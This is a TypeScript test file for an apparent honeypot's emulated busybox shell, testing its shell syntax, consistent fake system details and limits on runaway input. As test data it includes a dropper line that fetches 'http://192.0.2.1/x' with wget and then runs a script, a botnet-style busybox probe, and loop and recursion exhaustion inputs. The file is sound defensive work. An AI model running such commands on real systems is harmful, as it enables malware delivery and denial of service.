import { describe, expect, it } from 'vitest';
import type { Body } from '../../model/event.ts';
import { Memory } from '../memory.ts';
import { createPersona } from '../personas.ts';
import { createShell, type Hooks, nobody } from './index.ts';
import { Unfinished } from './syntax.ts';

const now = 1_780_000_000_000;

function shell(seed = 'test') {
  const events: Body[] = [];
  const hooks: Hooks = {
    persona: createPersona(seed),
    src: { ip: '192.0.2.7', port: 40_000 },
    dst: { ip: '198.51.100.1', port: 23 },
    emit: (body) => events.push(body),
    keep: (bytes) => ({ sha256: 'x', size: bytes.length }),
    write() {},
    readLine: async () => null,
    async pause() {},
    now: () => now,
    random: () => 0.5,
  };
  const one = createShell(hooks, new Memory(), { name: 'sh' });
  return {
    events,
    one,
    async run(line: string): Promise<string> {
      let text = '';
      const add = (more: string) => {
        text += more;
      };
      await one.line(line, { ...nobody, out: add, err: add });
      return text;
    },
  };
}

const run = (line: string) => shell().run(line);

describe('the language', () => {
  it.each<[string, string]>([
    ['echo a  b "c  d" \'e $x\'', 'a b c  d e $x\n'],
    ['x=5; echo $x ${x} "$x" ${y:-z} ${#x} $((x+1)) $((2*(3+4)%5))', '5 5 5 z 1 6 4\n'],
    ['echo `echo hi` $(echo $(echo deep))', 'hi deep\n'],
    ['false && echo no || echo yes; true && echo ok', 'yes\nok\n'],
    ['echo a | cat | cat; echo $?', 'a\n0\n'],
    ['nosuch; echo $?', 'sh: nosuch: not found\n127\n'],
    ['for i in 1 2 3; do [ $i = 2 ] && continue; echo $i; done', '1\n3\n'],
    ['i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done', '1\n2\n3\n'],
    ['if false; then echo a; elif true; then echo b; else echo c; fi', 'b\n'],
    ['case arm7 in x86*) echo i;; arm*|mips) echo a;; esac', 'a\n'],
    ['f() { echo "$1-$#"; return 3; }; f x y; echo $?', 'x-2\n3\n'],
    ['(cd /tmp; pwd); pwd', '/tmp\n/root\n'],
    ['echo a > /tmp/x; echo b >> /tmp/x; while read i; do echo "<$i>"; done < /tmp/x', '<a>\n<b>\n'],
    ['cat << E\nx $HOME\nE', 'x /root\n'],
    ["cat << 'E'\nx $HOME\nE", 'x $HOME\n'],
    ['nosuch 2>/dev/null; nosuch 2>&1 | wc -l', '1\n'],
    ['p=/a/b.tar.gz; echo ${p##*/} ${p%.*} ${p#/}', 'b.tar.gz /a/b.tar a/b.tar.gz\n'],
    ['cd /etc; echo host* /etc/pass*', 'hostname hosts /etc/passwd\n'],
    ['echo -e "\\x41\\102\\0103\\n"', 'ABC\n\n'],
    ['echo -ne "\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A"', 'auth_ok\n'],
    ['printf "%s-%d\\n" a 1 b 2', 'a-1\nb-2\n'],
    ['echo aGkK | base64 -d', 'hi\n'],
    ['echo "echo run" | sh', 'run\n'],
    ['eval "a=1; echo \\$a"', '1\n'],
    ['sh -c "echo $$ >/dev/null; echo in"', 'in\n'],
    ['echo ")"; echo )', 'sh: syntax error: unexpected ")"\n'],
    ['>/proc/x', "sh: can't create /proc/x: nonexistent directory\n"],
    ['cat < /nonex', "sh: can't open /nonex: no such file\n"],
    ['/bin/busybox SMJKD', 'SMJKD: applet not found\n'],
    [
      'rm nonex; cp nonex y; chmod 777 nonex',
      "rm: can't remove 'nonex': No such file or directory\ncp: can't stat 'nonex': No such file or directory\nchmod: nonex: No such file or directory\n",
    ],
    ['kill -9 1; export A=b; echo $A', 'b\n'],
    ["echo root:x | cut -d: -f1; echo a b c | awk '{print $2,$NF}'", 'root\nb c\n'],
    ['free -m | grep Mem | wc -l', '1\n'],
    ['! true; echo $?', '1\n'],
    ['cp /bin/busybox /tmp/b; /tmp/b nonex', 'b: applet not found\n'],
  ])('%s', async (line, expected) => {
    expect(await run(line)).toBe(expected);
  });

  it.each(['echo "', "echo 'a", 'if true; then', 'while true; do', 'a &&', 'echo $(', 'cat << E', '{ echo'])(
    '%s wants more',
    async (line) => {
      await expect(run(line)).rejects.toThrow(Unfinished);
    },
  );
});

describe('the machine', () => {
  it('tells one story', async () => {
    for (const seed of ['a', 'b', 'c', 'd', 'e']) {
      const { run, one } = shell(seed);
      const { persona } = one.hooks;
      const count = String(persona.cpu.count);
      expect((await run('nproc')).trim()).toBe(count);
      expect((await run('cat /proc/cpuinfo | grep processor | wc -l')).trim()).toBe(count);
      expect(await run('grep "model name" /proc/cpuinfo | head -1')).toContain(persona.cpu.model);
      const total = /MemTotal: +(\d+) kB/.exec(await run('cat /proc/meminfo'))![1];
      expect(await run('free')).toMatch(new RegExp(`Mem: +${total} `));
      expect(await run('uname -a')).toContain((await run('uname -r')).trim());
      expect(await run('cat /proc/version')).toContain(persona.kernel.version);
      expect(await run('cat /proc/mounts')).toBe(await run('cat /proc/1/mounts'));
      expect((await run('dd if=/bin/ls bs=20 count=1 2>/dev/null')).charCodeAt(18)).toBe(
        persona.arch.elfMachine,
      );
      expect((await run('ps')).split('\n').length).toBeGreaterThan(10);
    }
  });

  it('keeps what is dropped, once, when it is made to run', async () => {
    const { run, events } = shell();
    await run('echo "echo hello; wget http://192.0.2.1/x" > /tmp/s; sh /tmp/s; sh /tmp/s');
    expect(events.filter(({ kind }) => kind === 'upload')).toMatchObject([
      { name: '/tmp/s', detail: { how: 'run' } },
    ]);
    expect(events.filter(({ kind }) => kind === 'download')).toHaveLength(2);
  });
});

describe('bounds', () => {
  it.each([
    'while true; do :; done',
    'f() { f; }; f',
    'x=a; while true; do x=$x$x; done',
    'while true; do echo x >> /tmp/f; done',
    'while true; do cat /bin/busybox >> /tmp/f; done',
    'i=0; while true; do i=$((i+1)); mkdir /tmp/d$i; done',
    'for i in $(cat /bin/busybox); do for j in $(cat /bin/busybox); do :; done; done',
    `${'('.repeat(1_000)}`,
    `${'$('.repeat(1_000)}${')'.repeat(1_000)}`,
    `${'$(('.repeat(2_000)}1${'))'.repeat(2_000)}`,
    `${'{ '.repeat(1_000)}`,
    `echo ${'a;'.repeat(30_000)}`,
    `x=${'a'.repeat(30_000)}; echo \${x%%${'*a'.repeat(100)}b}`,
    `case ${'a'.repeat(60_000)} in ${'*a'.repeat(400)}b) echo;; esac`,
    'yes | head; . /tmp/x; echo "sh /tmp/r" > /tmp/r; sh /tmp/r',
  ])('ends: %s', async (line) => {
    const started = performance.now();
    const { run } = shell();
    expect(
      (await run(line).catch((error: unknown) => (error instanceof Unfinished ? '' : Promise.reject(error))))
        .length,
    ).toBeLessThan(1_200_000);
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});
